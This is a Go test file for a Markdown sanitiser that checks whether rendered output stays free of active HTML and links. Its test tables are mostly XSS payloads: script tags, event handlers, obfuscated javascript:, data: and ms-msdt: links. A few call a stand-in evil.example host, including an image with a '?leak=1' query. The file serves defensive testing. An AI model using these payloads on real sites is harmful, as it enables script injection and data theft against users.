package hostile

import (
	"bytes"
	"fmt"
	"html"
	"os"
	"path/filepath"
	"regexp"
	"slices"
	"strings"
	"testing"
	"time"

	"github.com/google/go-cmp/cmp"
	"github.com/yuin/goldmark"
	"github.com/yuin/goldmark/ast"
	"github.com/yuin/goldmark/extension"
	ghtml "github.com/yuin/goldmark/renderer/html"
	"github.com/yuin/goldmark/text"

	"github.com/council-engine/council/internal/check"
)

// documentCases are contents of documents, honest and not. An empty want is not compared.
var documentCases = []textCase{
	// Code stays as it was written.
	{"code span", "`Map<K, V>` and `<script>`", "`Map<K, V>` and `<script>`"},
	{"fenced code", "```go\nfunc Of[T any](x <-chan T) {} // <T>\n```\n",
		"```go\nfunc Of[T any](x <-chan T) {} // <T>\n```\n"},
	{"tilde fence", "~~~html\n<script>alert(1)</script>\n~~~\n", "~~~html\n<script>alert(1)</script>\n~~~\n"},
	{"indented code", "text\n\n    <b>bold</b>\n", "text\n\n    <b>bold</b>\n"},
	{"code in a list", "- a\n\n  ```\n  List<T>\n  ```\n", "- a\n\n  ```\n  List<T>\n  ```\n"},
	{"code in a quote", "> ```\n> <T>\n> ```\n", "> ```\n> <T>\n> ```\n"},
	{"a link in code", "`[x](javascript:y)` and `[x]: data:z`", "`[x](javascript:y)` and `[x]: data:z`"},
	{"code span with backticks", "`` a`<T>`b ``", "`` a`<T>`b ``"},
	{"code in a table", "| a | b |\n|---|---|\n| `<T>` | x |\n", "| a | b |\n|---|---|\n| `<T>` | x |\n"},
	{"code over two lines", "`a\nb <T>`", "`a\nb <T>`"},
	{"an open fence", "```\n<script>", "```\n<script>"},

	// Harmless text stays as well.
	{"comparisons", "a < b, 3 <= 4, x <- y, 1<2", "a < b, 3 <= 4, x <- y, 1<2"},
	{"web link", "[docs](https://example.org/a_b \"Note: see\")", "[docs](https://example.org/a_b \"Note: see\")"},
	{"relative link", "[queue](docs/queue.md#L3)", "[queue](docs/queue.md#L3)"},
	{"link by a definition", "[x]\n\n[x]: https://example.org", "[x]\n\n[x]: https://example.org"},
	{"link between angle brackets", "<https://example.org/?a=b> and <a.b@example.org>",
		"<https://example.org/?a=b> and <a.b@example.org>"},
	{"references", "&lt;b&gt; &amp; &#35;", "&lt;b&gt; &amp; &#35;"},
	{"structure", "# A\n\n- b\n\n> c\n\n| d |\n|---|\n| e |\n\n---\n",
		"# A\n\n- b\n\n> c\n\n| d |\n|---|\n| e |\n\n---\n"},

	// HTML.
	{"a type", "Use Vec<T> here", "Use Vec&lt;T> here"},
	{"script", "<script>alert(1)</script>", "&lt;script>alert(1)&lt;/script>"},
	{"image with a handler", "<img src=x onerror=alert(1)>", "&lt;img src=x onerror=alert(1)>"},
	{"script without an end", "<script src=//evil.example/x.js", ""},
	{"vector image", "<svg/onload=alert(1)>", ""},
	{"frame", "<iframe src=\"javascript:alert(1)\">", ""},
	{"upper case", "<ScRiPt>alert(1)</sCrIpT>", ""},
	{"details", "<details open ontoggle=alert(1)>", ""},
	{"comment", "a <!-- hidden --> b", "a &lt;!-- hidden --> b"},
	{"comment without an end", "<!-- the rest\n\n# Heading\n", "&lt;!-- the rest\n\n# Heading\n"},
	{"short comment", "<!--> <!---> x", ""},
	{"declaration", "<!DOCTYPE html>", ""},
	{"processing instruction", "<?xml version=\"1\"?>", ""},
	{"CDATA", "<![CDATA[ <script>alert(1)</script> ]]>", ""},
	{"style", "<style>* { display: none }</style>", ""},
	{"form", "<form action=https://evil.example><button>go</form>", ""},
	{"meta", "<meta http-equiv=refresh content=\"0;url=javascript:alert(1)\">", ""},
	{"base", "<base href=\"//evil.example\">", ""},
	{"anchor", "<a href=\"javascript:alert(1)\">x</a>", ""},
	{"HTML in a heading", "# Title <b onclick=x>", ""},
	{"HTML in a list", "- <div>\n  <script>alert(1)</script>", ""},
	{"HTML in a quote", "> <div>\n> <script>", ""},
	{"HTML in a table", "| a |\n|---|\n| <script>x</script> |", ""},
	{"HTML in a link's words", "[<img src=x onerror=y>](https://example.org)", ""},
	{"HTML in a link's title", "[x](https://example.org \"<script>\")", ""},
	{"escaped already", `\<script>`, `&lt;script>`},
	{"escaped backslash", `\\<script>`, `\\&lt;script>`},
	{"three backslashes", `\\\<script>`, `\\&lt;script>`},
	{"hidden characters within", "<\u200bscript>alert(1)</scr\u00adipt>", ""},
	{"NUL within", "<\x00script>", "&lt;script>"},
	{"twice", "<<script>script>", ""},
	{"a tag over lines", "a <b\nonclick=x\n> c", ""},
	{"a fence that does not close", "```\n<T>\n``` x\n<script>\n```\n<img src=x onerror=y>", ""},
	{"a fence in a list that ends", "- ```\n  <T>\n\n<script>x</script>", ""},
	{"a fence in a quote that ends", "> ```\n<script>x</script>", ""},
	{"indented after a paragraph", "text\n    <script>x</script>", ""},
	{"tab after a paragraph", "text\n\t<script>x</script>", ""},
	{"indented in a list", "- a\n\n    <script>x</script>", ""},
	{"code spans that cross cells", "| a | b |\n|---|---|\n| `x | <script>y` |", ""},
	{"code span with a line of HTML", "`a\n<script>alert(1)</script>\nb`", ""},
	{"code span with a comment in a quote", "> `a\n> <!--\n> b`", ""},
	{"code span in a definition's title", "[x]: /y '`'\n<script>`", ""},
	{"code span in a definition that goes", "[x]: javascript:y '`'\n[z]: /y '`'\n<script>`", ""},
	{"escaped backtick", "\\`<script>`", ""},
	{"backticks of two lengths", "`` <script> ` </script> `", ""},
	{"backtick in a link between brackets", "<https://a`b> <script> `", ""},
	{"footnote", "x[^1]\n\n[^1]: `a\n    <script>`", ""},
	{"definition list", "term\n: `a\n\n    <script>", ""},
	{"info of a fence", "```<script>\nx\n```", ""},
	{"front matter", "---\nx: <script>\n---\n", ""},

	// Links.
	{"script link", "[x](javascript:alert(1))", `[x]\(javascript:alert(1))`},
	{"upper case scheme", "[x](JavaScript:alert(1))", ""},
	{"scheme by references", "[x](&#106;avascript&colon;alert(1))", `[x]\(&#106;avascript&colon;alert(1))`},
	{"scheme by references twice", "[x](&amp;#106;avascript:alert(1))", ""},
	{"references without ends", "[x](&#0000106avascript:alert(1))", ""},
	{"tab in the scheme", "[x](<java\tscript:alert(1)>)", ""},
	{"tab by a reference", "[x](java&Tab;script:alert(1))", ""},
	{"newline by a reference", "[x](java&#10;script:alert(1))", ""},
	{"space before the scheme", "[x](< javascript:alert(1)>)", ""},
	{"control before the scheme", "[x](&#1;javascript:alert(1))", ""},
	{"colon escaped", `[x](javascript\:alert(1))`, ""},
	{"address on the next line", "[x](\njavascript:alert(1)\n)", ""},
	{"address on the next line of a quote", "> [x](\n> javascript:alert(1))", ""},
	{"data", "[x](data:text/html;base64,PHNjcmlwdD4=)", ""},
	{"visual basic", "[x](vbscript:msgbox(1))", ""},
	{"file", "[x](file:///etc/passwd)", ""},
	{"program of the desktop", "[x](ms-msdt:/id x)", ""},
	{"definition", "[x]\n\n[x]: javascript:alert(1)", "[x]\n\n" + `[x]\: javascript:alert(1)`},
	{"definition on two lines", "[x]\n\n[x]:\n   data:text/html,y 'title'", ""},
	{"definition in a quote", "[x]\n\n> [x]:\n> javascript:y", ""},
	{"definition between brackets", "[x]\n\n[x]: <javascript:y>", ""},
	{"words with brackets", "[a[b]c](javascript:y)", ""},
	{"words with code", "[`a`](javascript:y)", ""},
	{"no words", "[](javascript:y)", ""},
	{"link in a table", "| a |\n|---|\n| [x](javascript:y) |", ""},
	{"link in a heading", "## [x](vbscript:y)", ""},
	{"link between brackets", "<javascript:alert(1)>", "&lt;javascript:alert(1)>"},
	{"data between brackets", "<data:text/html,x>", ""},
	{"image", "![x](https://evil.example/p.png?leak=1)", `\![x](https://evil.example/p.png?leak=1)`},
	{"image with a script", "![x](javascript:y)", `\![x]\(javascript:y)`},
	{"image by a definition", "![x][y]\n\n[y]: https://evil.example/p.png", ""},
	{"image escaped already", `\![x](https://example.org)`, `\![x](https://example.org)`},
	{"image in a link", "[![x](data:image/svg+xml,y)](javascript:z)", ""},
	{"long address", "[x](" + strings.Repeat("&Tab;", 200) + "javascript:y)", ""},
}

func TestDocument_ActsNowhere(t *testing.T) {
	for _, c := range documentCases {
		t.Run(c.name, func(t *testing.T) {
			got := Document(c.in)
			if diff := cmp.Diff(c.want, got); diff != "" && c.want != "" {
				t.Errorf("Document(%q) (-want +got):\n%s", c.in, diff)
			}
			requireInert(t, c.in)
			check.Is(t, "Document is stable: , then", got, Document(got))
		})
	}
	for _, a := range documentCases { // text before may change the extent of code
		for i := len(a.in) % 23; i < len(documentCases); i += 23 {
			requireInert(t, a.in+"\n"+documentCases[i].in)
		}
	}
}

// The documents of this repository hold no HTML but the mark behind what is generated, so that nothing else in them
// changes.
func TestDocument_LeavesHonestDocumentsAlone(t *testing.T) {
	files, err := filepath.Glob("../../docs/*.md")
	if err != nil || len(files) < 10 {
		t.Fatal(files, err)
	}
	for _, file := range files {
		words := check.Get(os.ReadFile(file))(t)
		text := strings.ReplaceAll(string(words), "<!-- end -->\n", "")
		text = strings.ReplaceAll(text, "![", "[") // a document of a council shows no pictures
		check.Equal(t, file, text, Document(text))
	}
}

func TestDocument_IsQuickOnHostileText(t *testing.T) {
	for name, in := range map[string]string{
		"brackets": strings.Repeat("](", 40_000), "schemes": strings.Repeat("](javascript:", 10_000),
		"comments": strings.Repeat("<!--", 20_000), "ticks": strings.Repeat("` `` ``` <b>", 6_000),
		"quotes": strings.Repeat(">", 40_000) + "<b>", "lists": strings.Repeat("- ", 20_000) + "<b>",
		"cells":       strings.Repeat("|<b>", 20_000),
		"definitions": strings.Repeat("[a]: x\n", 10_000) + "<b>", "long": strings.Repeat("a <b> `c`\n\n", 20_000),
	} {
		begun := time.Now()
		if out := Document(in); strings.Contains(out, "<b>") && name != "ticks" {
			t.Errorf("%s: HTML is left", name) // the ticks make code of it
		}
		if took := time.Since(begun); took > 20*time.Second {
			t.Errorf("%s took %s", name, took)
		}
	}
}

func FuzzDocument(f *testing.F) {
	for _, c := range documentCases {
		f.Add(c.in)
	}
	f.Fuzz(func(t *testing.T, in string) { requireInert(t, in) })
}

// renderers show HTML as it comes, as a careless reader does.
var renderers = []goldmark.Markdown{
	goldmark.New(goldmark.WithRendererOptions(ghtml.WithUnsafe())),
	goldmark.New(goldmark.WithExtensions(extension.GFM), goldmark.WithRendererOptions(ghtml.WithUnsafe())),
	goldmark.New(goldmark.WithExtensions(extension.GFM, extension.Footnote, extension.DefinitionList),
		goldmark.WithRendererOptions(ghtml.WithUnsafe())),
}

var (
	anyTag    = regexp.MustCompile(`<(/?[^\s>]*)([^>]*)>`)
	anyTarget = regexp.MustCompile(`(?:href|src)="([^"]*)"`)
	ownTag    = regexp.MustCompile(
		`^/?(?:p|h[1-6]|em|strong|del|code|pre|[uo]l|li|blockquote|a|table|t(?:head|body|r|h|d)|hr|br|input|sup|div|d[ltd])$`)
	ownScheme = regexp.MustCompile(`^(?i)(?:https?|mailto|www\.|ftp):`)
	anyScheme = regexp.MustCompile(`^[0-9A-Za-z+.\-]*:`)
)

// requireInert checks that no renderer makes anything of a document that acts.
func requireInert(t *testing.T, in string) {
	t.Helper()
	out := Document(in)
	for i, r := range renderers {
		fail := func(format string, args ...any) {
			t.Errorf("renderer %d, from %.300q\ncame %.300q: %s", i, in, out, fmt.Sprintf(format, args...))
		}
		_ = ast.Walk(r.Parser().Parse(text.NewReader([]byte(out))), func(n ast.Node, _ bool) (ast.WalkStatus, error) {
			if slices.Contains([]ast.NodeKind{ast.KindHTMLBlock, ast.KindRawHTML, ast.KindImage}, n.Kind()) {
				fail("%s", n.Kind())
			}
			return ast.WalkContinue, nil
		})
		var b bytes.Buffer
		check.OK(t, r.Convert([]byte(out), &b))
		for _, tag := range anyTag.FindAllStringSubmatch(b.String(), -1) {
			if !ownTag.MatchString(tag[1]) {
				fail("the tag %s", tag[0])
			}
			for _, to := range anyTarget.FindAllStringSubmatch(tag[2], -1) {
				target := strings.Map(func(r rune) rune {
					if r <= ' ' {
						return -1
					}
					return r
				}, html.UnescapeString(html.UnescapeString(to[1])))
				if anyScheme.MatchString(target) && !ownScheme.MatchString(target) {
					fail("a link to %.100s", target)
				}
			}
		}
	}
}
